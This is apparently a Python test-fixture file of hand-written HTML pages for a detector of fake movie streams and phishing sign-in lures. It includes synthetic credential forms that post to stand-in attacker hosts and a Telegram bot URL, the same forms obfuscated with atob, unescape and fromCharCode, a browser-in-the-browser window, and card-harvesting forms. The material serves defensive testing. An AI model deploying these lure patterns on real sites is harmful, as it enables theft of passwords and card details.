"""Small hand-written pages: each evasion the detector must see through, and each legitimate
look-alike.

``CASES`` maps a name to ``(url, html, expected)`` where expected holds ``fake_stream``,
``sso_lure`` and ``matched_title``.
"""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import quote

FORM = (
    '<form action="{action}" method="post"><input type="email" name="email">'
    '<input type="password" name="pass"><button>Sign in</button></form>'
)


def _page(title: str, body: str) -> str:
    return f"<html><head><title>{title}</title></head><body>{body}</body></html>"


def _fake(title: str, body: str) -> str:
    return _page(
        title,
        f'{body}<p><a href="https://stream-hd.example/p"><img src="play.png" alt="play"></a></p>',
    )


def _expect(fs: bool = False, lure: bool = False, title: str | None = None) -> dict[str, Any]:
    return {"fake_stream": fs, "sso_lure": lure, "matched_title": title}


_LOGIN = FORM.format(action="https://collect.evil-gate.example/gate.php")
_B64 = base64.b64encode(FORM.format(action="https://panel.evil-gate.example/x").encode()).decode()
_PCT = "".join(f"%{b:02X}" for b in FORM.format(action="/save.php").encode())
_CODES = ",".join(
    str(ord(c)) for c in FORM.format(action="https://api.telegram.org/bot1:AA/sendMessage")
)
_GOOGLE_BROAD = (
    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1.apps.googleusercontent.com"
    "&response_type=code&access_type=offline&scope="
    + quote("https://mail.google.com/ https://www.googleapis.com/auth/drive")
    + "&redirect_uri="
    + quote("https://cine-app.example/cb")
)
_GOOGLE_NARROW = (
    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1.apps.googleusercontent.com"
    "&response_type=code&scope=openid%20email%20profile&redirect_uri="
    + quote("https://cine-app.example/cb")
)
_MS_ALLOWED = (
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&response_type=code"
    "&scope=Mail.Read%20offline_access&redirect_uri=" + quote("https://reviews-site.example/auth")
)

CASES: dict[str, tuple[str, str, dict[str, Any]]] = {
    # fake streams and their evasions
    "plain_en": (
        "https://moviezone.tumblr.com/post/1",
        _fake(
            "Watch Man of Steel (2013) Full Movie Online Free",
            "<p>Watch Man of Steel 2013 full movie online free in HD.</p>",
        ),
        _expect(True, title="Man of Steel"),
    ),
    "homoglyphs": (
        "https://a.tumblr.com/post/2",
        _fake("Ма\u0578 оf Ѕtееl", "<p>Wаtch Маn оf Ѕtееl (2013) full mоvie оnline frее</p>"),
        _expect(True, title="Man of Steel"),
    ),
    "zero_width": (
        "https://b.tumblr.com/post/3",
        _fake(
            "I\u200bron M\u200dan 3",
            "<p>I\u200bron\u2060 Man\ufeff 3 full movie online free, watch I\u200cron Man 3 free online</p>",
        ),
        _expect(True, title="Iron Man 3"),
    ),
    "leetspeak": (
        "https://c.wordpress.com/4",
        _fake("T0y St0ry 5", "<p>W4tch T0y St0ry 5 full m0vie 0nline fr33</p>"),
        _expect(True, title="Toy Story 5"),
    ),
    "release_name": (
        "https://d.blogspot.com/5",
        _fake(
            "Dune.Part.Three.2026.1080p.WEBRip.x264",
            "<p>Dune.Part.Three.2026.1080p.WEBRip.x264-YTS download</p>",
        ),
        _expect(True, title="Dune: Part Three"),
    ),
    "entities": (
        "https://e.tumblr.com/6",
        _fake("&#83;cream 7", "<p>&#87;atch &#83;cream 7 full movie online free &amp; HD</p>"),
        _expect(True, title="Scream 7"),
    ),
    "roman_numeral": (
        "https://f.tumblr.com/7",
        _fake(
            "Mortal Kombat 2",
            "<p>Mortal Kombat 2 (2026) full movie download, Mortal Kombat 2 123movies</p>",
        ),
        _expect(True, title="Mortal Kombat II"),
    ),
    "french": (
        "https://g.blogspot.com/8",
        _fake(
            "Dune Partie 3",
            "<p>Regarder Dune: Part Three en streaming gratuit. Dune: Part Three streaming VF complet.</p>",
        ),
        _expect(True, title="Dune: Part Three"),
    ),
    "spanish": (
        "https://h.blogspot.com/9",
        _fake(
            "Ver Avengers Doomsday",
            "<p>Ver Avengers: Doomsday online "
            "gratis. Avengers: Doomsday película completa en español latino.</p>",
        ),
        _expect(True, title="Avengers: Doomsday"),
    ),
    "german": (
        "https://i.blogspot.com/10",
        _fake(
            "Michael",
            "<p>Michael (2026) ganzer Film deutsch - Michael Stream deutsch kostenlos anschauen</p>",
        ),
        _expect(True, title="Michael"),
    ),
    "portuguese": (
        "https://j.blogspot.com/11",
        _fake(
            "Assistir",
            "<p>Assistir Project Hail Mary online grátis. Project Hail Mary filme completo dublado.</p>",
        ),
        _expect(True, title="Project Hail Mary"),
    ),
    "indonesian": (
        "https://k.blogspot.com/12",
        _fake("Nonton", "<p>Nonton Minions 3 sub indo. Minions 3 LK21 full movie.</p>"),
        _expect(True, title="Minions 3"),
    ),
    "italian": (
        "https://l.blogspot.com/13",
        _fake("Guarda", "<p>Supergirl streaming ITA. Supergirl film completo italiano.</p>"),
        _expect(True, title="Supergirl"),
    ),
    "word_order": (
        "https://m.tumblr.com/14",
        _fake("Doomsday Avengers", "<p>Doomsday Avengers full movie online free</p>"),
        _expect(True, title="Avengers: Doomsday"),
    ),
    # near misses and hard negatives
    "sequel_not_watched": (
        "https://n.tumblr.com/15",
        _fake("Iron Man 2", "<p>Watch Iron Man 2 full movie online free</p>"),
        _expect(),
    ),
    "toy_story_4": (
        "https://n.tumblr.com/16",
        _fake("Toy Story 4", "<p>Toy Story 4 full movie online free</p>"),
        _expect(),
    ),
    "other_year": (
        "https://o.tumblr.com/17",
        _fake(
            "Moana (2016)", "<p>Moana (2016) full movie online free. Watch Moana free online</p>"
        ),
        _expect(),
    ),
    "review": (
        "https://p.wordpress.com/18",
        _page(
            "Man of Steel review",
            "<h1>Man of Steel review</h1><p>I "
            "watched Man of Steel at the cinema. Full movie review: Cavill is great.</p>",
        ),
        _expect(),
    ),
    "scam_warning": (
        "https://q.wordpress.com/19",
        _page(
            "Scam alert",
            "<h1>Scam alert: fake Scream 7 streams</h1>"
            "<p>Beware of posts saying 'Watch Scream 7 full movie online free HD'. They are phishing; "
            "never enter your password on hxxps://scream7-free[.]example.</p>",
        ),
        _expect(),
    ),
    # lures and their evasions
    "password_offhost": (
        "https://player.example/watch",
        _page("Player", "<p>Sign in to continue watching</p>" + _LOGIN),
        _expect(lure=True),
    ),
    "sso_button_foreign": (
        "https://player.example/w2",
        _page("Player", '<a href="https://bit.ly/x1">Continue with Google</a>'),
        _expect(lure=True),
    ),
    "lookalike_link": (
        "https://r.tumblr.com/20",
        _page("Free", '<a href="https://faceb00k-login.example/">Log in</a>'),
        _expect(lure=True),
    ),
    "lookalike_host": (
        "https://accounts.google.com.session-check.example/signin",
        _page("Sign in", FORM.format(action="/signin")),
        _expect(lure=True),
    ),
    "bitb": (
        "https://player.example/bitb",
        _page(
            "Player",
            '<div class="window"><div class="bar">https://accounts.'
            "google.com/signin/v2</div>" + FORM.format(action="/next") + "</div>",
        ),
        _expect(lure=True),
    ),
    "oauth_broad": (
        "https://s.tumblr.com/21",
        _page("Free HD", f'<a href="{_GOOGLE_BROAD}">Unlock HD</a>'),
        _expect(lure=True),
    ),
    "obfuscated_atob": (
        "https://player.example/o1",
        _page("Player", f"<script>document.write(atob('{_B64}'));</script>"),
        _expect(lure=True),
    ),
    "obfuscated_unescape": (
        "https://player.example/o2",
        _page(
            "Player",
            f'<script>document.write(unescape("{_PCT}"));</script><p>Sign in to continue watching</p>',
        ),
        _expect(lure=True),
    ),
    "obfuscated_charcode": (
        "https://player.example/o3",
        _page(
            "Player",
            f"<script>var h=String.fromCharCode({_CODES});"
            "document.body.insertAdjacentHTML('beforeend', h);</script>",
        ),
        _expect(lure=True),
    ),
    "card_form": (
        "https://player.example/card",
        _page(
            "Free account",
            '<form action="https://getform.io/f/x">'
            '<input name="email"><input name="cc_number" autocomplete="cc-number"><input name="cvv">'
            "</form><p>You will not be charged.</p>",
        ),
        _expect(lure=True),
    ),
    # legitimate look-alikes
    "google_login_page": (
        "https://accounts.google.com/signin/v2/identifier",
        _page(
            "Sign in - Google Accounts",
            FORM.format(action="https://accounts.google.com/signin/v2/challenge"),
        ),
        _expect(),
    ),
    "tumblr_login_page": (
        "https://www.tumblr.com/login",
        _page(
            "Log in | Tumblr",
            FORM.format(action="/login")
            + '<a href="https://www.tumblr.com/oauth/google">Continue with Google</a>',
        ),
        _expect(),
    ),
    "blogger_comment_widget": (
        "https://films.blogspot.com/2026/01/post.html",
        _page(
            "Post",
            "<p>Post a Comment</p>"
            '<a href="https://www.blogger.com/comment/fullpage/post/1/2">Sign in with Google</a>'
            '<iframe src="https://www.blogger.com/comment/frame/1?po=2"></iframe>',
        ),
        _expect(),
    ),
    "wpcom_comment_widget": (
        "https://films.wordpress.com/2026/01/01/post/",
        _page(
            "Post",
            '<form action="https://'
            'films.wordpress.com/wp-comments-post.php" method="post"><textarea name="comment">'
            '</textarea><input type="email" name="email"><a href="https://public-api.wordpress.com/'
            'connect/?service=google">Log in with Google</a><a href="https://wordpress.com/log-in">'
            "Log in with WordPress.com</a></form><p>You are commenting using your WordPress.com "
            "account.</p>",
        ),
        _expect(),
    ),
    "oauth_narrow": (
        "https://t.tumblr.com/22",
        _page("App", f'<a href="{_GOOGLE_NARROW}">Sign in</a>'),
        _expect(),
    ),
    "oauth_allowlisted_own_site": (
        "https://reviews-site.example/connect",
        _page("Connect", f'<a href="{_MS_ALLOWED}">Connect Outlook</a>'),
        _expect(),
    ),
    "own_auth_route": (
        "https://moviebuffs.example/users/sign_in",
        _page("Sign in", '<a href="/auth/google">Sign in with Google</a>'),
        _expect(),
    ),
    "scam_warning_quotes_lure": (
        "https://u.wordpress.com/23",
        _page(
            "Warning",
            "<p>Phishing pages show "
            "accounts.google.com in a fake window and say 'sign in to continue watching'.</p>",
        ),
        _expect(),
    ),
    # letters one space apart, words two: the wider gaps are the word boundaries
    "letter_spaced": (
        "https://y.tumblr.com/post/45",
        _fake(
            "Post",
            "<p>W A T C H  S C R E A M  7  (2026)  F U L L  M O V I E  O N L I N E  F R E E</p>",
        ),
        _expect(fs=True, title="Scream 7"),
    ),
    # the "free account" with a card, and a streaming service's own sign-up page
    "card_free_account": (
        "https://freemovies-club.site/register",
        _page(
            "Register",
            "<h2>Create your FREE account to watch Scream 7 in HD</h2><form action='/reg.php' method='post'>"
            "<input name='email'><input name='cc_number' autocomplete='cc-number' placeholder='Card number'>"
            "<input name='cvv' placeholder='CVV'><button>Start free trial</button></form>",
        ),
        _expect(lure=True),
    ),
    "card_on_streaming_service": (
        "https://www.netflix.com/signup/payment",
        _page(
            "Netflix",
            "<h2>Start your membership to watch Scream 7</h2>"
            "<form action='/signup/creditoption' method='post'>"
            "<input name='cc_number' autocomplete='cc-number'><input name='cvv'>"
            "<button>Start</button></form>",
        ),
        _expect(),
    ),
    "card_shop_without_film": (
        "https://popcorn-shop.example/checkout",
        _page(
            "Checkout",
            "<h2>Your popcorn order</h2><form action='/pay' method='post'>"
            "<input name='cc_number' autocomplete='cc-number'><input name='cvv'><button>Pay</button></form>",
        ),
        _expect(),
    ),
}
